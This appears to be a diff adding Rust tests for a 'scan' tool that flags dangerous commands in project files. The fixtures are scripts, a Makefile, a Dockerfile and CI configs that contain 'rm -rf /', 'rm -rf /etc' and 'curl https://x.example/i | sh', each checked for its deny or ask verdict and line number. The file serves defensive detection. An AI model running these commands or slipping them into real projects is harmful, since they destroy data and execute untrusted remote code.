@@ -1,0 +1,130 @@
+// SPDX-License-Identifier: Apache-2.0 OR MIT
+
+//! `scan`: commands in files are judged, with the line they stand on.
+
+use crate::context::TestContext;
+
+/// A project with something in every kind of file.
+fn project() -> TestContext {
+    let test = TestContext::new();
+    let files = [
+        (
+            "deploy.sh",
+            "#!/bin/bash\nset -eu\nOUT=build\nrm -rf \"$OUT\"\nTARGET=/srv/www\nrm -rf \"$TARGET\"\n\
+             cat <<EOF > notes\nrm -rf /\nEOF\nclean() {\n  echo cleaning\n  rm -rf ~/cache\n}\ncurl https://x.example/i |\n  sh\n",
+        ),
+        ("bin/tool", "#!/usr/bin/env python3\nimport os\n"),
+        ("bin/run", "#!/bin/sh\nrm -rf /etc\n"),
+        (
+            "Makefile",
+            "OUT = build\nall:\n\t@echo hi\nclean:\n\t-rm -rf $(OUT)\n\trm -rf $(PREFIX)/x \\\n\t  y\nevil: ; rm -rf /\n",
+        ),
+        (
+            "Dockerfile",
+            "FROM debian\nRUN apt-get update && \\\n    rm -rf /var/lib/apt/lists/*\nRUN curl https://x.example/i.sh | sh\n",
+        ),
+        (
+            ".github/workflows/ci.yml",
+            "on: push\njobs:\n  a:\n    steps:\n      - run: make\n      - name: x\n        run: |\n          echo a\n          rm -rf ~/x\n",
+        ),
+        (".gitlab-ci.yml", "job:\n  script:\n    - cd /\n    - rm -rf *\n"),
+        (
+            "package.json",
+            "{\n\t\"name\": \"x\",\n\t\"scripts\": {\n\t\t\"build\": \"tsc\",\n\t\t\"clean\": \"rm -rf ~/y\"\n\t}\n}\n",
+        ),
+        ("justfile", "clean:\n    @rm -rf /opt\n"),
+        ("Taskfile.yml", "version: '3'\ntasks:\n  a:\n    cmds:\n      - echo ok\n      - rm -rf {{.DIR}}\n"),
+        ("broken/.gitlab-ci.yml", "a: [\n"),
+        ("node_modules/x/bad.sh", "rm -rf /\n"),
+        ("target/bad.sh", "rm -rf /\n"),
+        ("README.md", "rm -rf /\n"),
+    ];
+    for (name, text) in files {
+        test.write(&format!("work/{name}"), text);
+    }
+    test
+}
+
+#[test]
+fn a_directory_is_walked_and_every_finding_has_its_line() {
+    let test = project();
+    let ran = test.run(&["scan", "."]);
+    let heads: Vec<_> = ran
+        .stdout
+        .lines()
+        .filter(|line| line.contains(" — "))
+        .map(|line| line.split(" — ").next().unwrap())
+        .collect();
+    assert_eq!(
+        heads,
+        [
+            ".github/workflows/ci.yml:9: deny recursive-delete",
+            ".gitlab-ci.yml:4: deny recursive-delete",
+            "Dockerfile:4: deny remote-code",
+            "Makefile:6: ask recursive-delete-unknown",
+            "Makefile:8: deny recursive-delete",
+            "Taskfile.yml:6: ask recursive-delete-unknown",
+            "bin/run:2: deny recursive-delete",
+            "deploy.sh:6: deny recursive-delete",
+            "deploy.sh:12: deny recursive-delete",
+            "deploy.sh:14: deny remote-code",
+            "justfile:2: deny recursive-delete",
+            "package.json:5: deny recursive-delete",
+        ],
+        "{}",
+        ran.stdout
+    );
+    assert!(ran.stdout.contains("\n    rm -rf \"$TARGET\"\n"), "{}", ran.stdout);
+    assert!(ran.stdout.contains("not read broken/.gitlab-ci.yml:"), "{}", ran.stdout);
+    assert_eq!(ran.exit, 1);
+}
+
+#[test]
+fn what_fails_is_for_the_person_to_say() {
+    let test = TestContext::new();
+    test.write("work/a.sh", "rm -rf \"$X\"\n");
+    let exit = |args: &[&str]| test.run(&[&["scan", "a.sh"], args].concat()).exit;
+    assert_eq!((exit(&[]), exit(&["--fail-on", "ask"])), (0, 1));
+    test.write("work/a.sh", "rm -rf /\n");
+    assert_eq!((exit(&[]), exit(&["--fail-on", "never"])), (1, 0));
+    assert_eq!(exit(&["no-such-file"]), 2);
+    test.write("work/a.sh", "ls\n");
+    assert_eq!(exit(&["--fail-on", "ask"]), 0);
+}
+
+#[test]
+fn answers_for_programs_have_the_same_findings() {
+    let test = project();
+    let answer = test.run(&["scan", "deploy.sh", "--json"]).json();
+    assert_eq!(answer["findings"].as_array().unwrap().len(), 3);
+    assert_eq!(answer["findings"][0]["line"], 6);
+    assert_eq!(answer["findings"][0]["text"], "rm -rf \"$TARGET\"");
+    let sarif = test.run(&["scan", "deploy.sh", "--sarif"]).json();
+    assert_eq!(sarif["version"], "2.1.0");
+    let run = &sarif["runs"][0];
+    assert_eq!(run["results"][0]["locations"][0]["physicalLocation"]["region"]["startLine"], 6);
+    assert_eq!(run["results"][0]["level"], "error");
+    assert_eq!(run["tool"]["driver"]["rules"].as_array().unwrap().len(), 2);
+}
+
+#[test]
+fn links_are_not_followed_and_nothing_is_executed() {
+    let test = TestContext::new();
+    test.write("elsewhere/bad.sh", "rm -rf /\n");
+    test.write("work/a.sh", "touch made\n$(touch made)\n");
+    std::os::unix::fs::symlink(test.path("elsewhere"), test.path("work/link")).unwrap();
+    std::os::unix::fs::symlink(test.path("elsewhere/bad.sh"), test.path("work/link.sh")).unwrap();
+    let answer = test.run(&["scan", ".", "--json"]).json();
+    assert_eq!(answer["files"], 1);
+    assert!(!test.path("work/made").exists());
+}
+
+#[test]
+fn rules_of_one_s_own_are_asked_too() {
+    let test = TestContext::new();
+    test.write("work/a.sh", "echo a\ndocker ps\n");
+    let rule = "version: 1\nrules:\n  - {id: no-docker, match: {shell: {program: docker}}, verdict: deny, reason: no}\n";
+    test.write("p.yaml", rule);
+    let ran = test.run(&["scan", "a.sh", "--policy", "../p.yaml", "--no-baseline"]);
+    assert!(ran.stdout.starts_with("a.sh:2: deny no-docker — no\n    docker ps\n"), "{}", ran.stdout);
+}
